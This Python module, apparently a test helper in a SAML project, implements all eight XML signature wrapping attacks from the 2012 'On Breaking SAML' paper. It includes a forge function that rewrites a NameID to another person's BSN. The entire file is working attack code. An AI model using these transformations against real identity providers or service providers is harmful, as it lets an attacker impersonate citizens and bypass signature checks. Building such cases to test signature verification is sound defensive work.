"""Signature wrapping: a genuine signed element somewhere, a forged one where a reader looks.

The eight variants of Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX
Security 2012), as tools number them. The first two wrap the message, the others its assertion.
Each takes and changes a tree; `forge` makes of a copy what the attacker wants to be read.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from .xmlsec import ASSERTION, DSIG, PROTOCOL, SOAP

Forge = Callable[[etree._Element], None]


def find(tree: etree._Element, namespace: str, name: str) -> etree._Element:
    """The first element of this name."""
    return next(tree.iter(f"{{{namespace}}}{name}"))


def signature(element: etree._Element) -> etree._Element:
    """The element's own signature."""
    return element.find(f"{{{DSIG}}}Signature")


def another_person(bsn: str) -> Forge:
    """What attackers want: to be somebody else."""

    def forge(copy: etree._Element):
        name_id = find(copy, ASSERTION, "NameID")
        name_id.text = f"{name_id.text.split(':')[0]}:{bsn}"

    return forge


def _forged(genuine: etree._Element, forge: Forge) -> etree._Element:
    """A changed copy without signature, under identifiers of its own."""
    copy = deepcopy(genuine)
    copy.tail = None
    copy.remove(signature(copy))
    for element in copy.iter():
        for name in ("ID", "Id"):
            if name in element.attrib:
                element.set(name, f"_forged{element.get(name)}")
    forge(copy)
    return copy


def _put_signature(element: etree._Element, its: etree._Element):
    """Where the schema wants it: after the issuer."""
    element.insert(1, its)


def _instead(genuine: etree._Element, forged: etree._Element):
    parent = genuine.getparent()
    parent.replace(genuine, forged)


# ── Around the message; these take the SOAP envelope ────────────────────────────────────────────


def xsw1(envelope: etree._Element, forge: Forge):
    """The forged message bears the signature, and the genuine message stands in that."""
    genuine, forged, its = _taken_apart(envelope, forge)
    _instead(genuine, forged)
    _put_signature(forged, its)
    its.append(genuine)


def xsw2(envelope: etree._Element, forge: Forge):
    """The forged message holds the genuine message and, beside that, its signature."""
    genuine, forged, its = _taken_apart(envelope, forge)
    _instead(genuine, forged)
    _put_signature(forged, its)
    its.addprevious(genuine)


def soap_header(envelope: etree._Element, forge: Forge):
    """The genuine message stands in the header, the forged one with its signature in the body."""
    genuine, forged, its = _taken_apart(envelope, forge)
    _instead(genuine, forged)
    _put_signature(forged, its)
    header = etree.Element(f"{{{SOAP}}}Header")
    header.append(genuine)
    envelope.insert(0, header)


def soap_body(envelope: etree._Element, forge: Forge):
    """Two messages in the body, the forged one first."""
    genuine = find(envelope, PROTOCOL, "ArtifactResponse")
    genuine.addprevious(_forged(genuine, forge))


def _taken_apart(envelope: etree._Element, forge: Forge):
    genuine = find(envelope, PROTOCOL, "ArtifactResponse")
    forged = _forged(genuine, forge)
    its = signature(genuine)
    genuine.remove(its)
    return genuine, forged, its


# ── Around the assertion; these take the ArtifactResponse, which is signed afterwards ───────────


def xsw3(message: etree._Element, forge: Forge):
    """The forged assertion stands before the genuine one."""
    genuine = find(message, ASSERTION, "Assertion")
    genuine.addprevious(_forged(genuine, forge))


def xsw4(message: etree._Element, forge: Forge):
    """The forged assertion holds the genuine one."""
    genuine = find(message, ASSERTION, "Assertion")
    forged = _forged(genuine, forge)
    _instead(genuine, forged)
    forged.append(genuine)


def xsw5(message: etree._Element, forge: Forge):
    """The forged assertion bears the signature; the genuine one stands at the end."""
    genuine, forged, its = _assertion_taken_apart(message, forge)
    _instead(genuine, forged)
    _put_signature(forged, its)
    forged.getparent().append(genuine)


def xsw6(message: etree._Element, forge: Forge):
    """The forged assertion bears the signature, and the genuine one stands in that."""
    genuine, forged, its = _assertion_taken_apart(message, forge)
    _instead(genuine, forged)
    _put_signature(forged, its)
    its.append(genuine)


def xsw7(message: etree._Element, forge: Forge, *, same_id: bool):
    """The forged assertion stands in the extensions of the response."""
    genuine = find(message, ASSERTION, "Assertion")
    forged = _forged(genuine, forge)
    if same_id:
        forged.set("ID", genuine.get("ID"))
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    extensions.append(forged)
    find(message, PROTOCOL, "Response").insert(1, extensions)


def xsw8(message: etree._Element, forge: Forge):
    """The forged assertion bears the signature, and the genuine one stands in an object of that."""
    genuine, forged, its = _assertion_taken_apart(message, forge)
    _instead(genuine, forged)
    _put_signature(forged, its)
    held = etree.SubElement(its, f"{{{DSIG}}}Object")
    held.append(genuine)


def _assertion_taken_apart(message: etree._Element, forge: Forge):
    genuine = find(message, ASSERTION, "Assertion")
    forged = _forged(genuine, forge)
    its = signature(genuine)
    genuine.remove(its)
    return genuine, forged, its
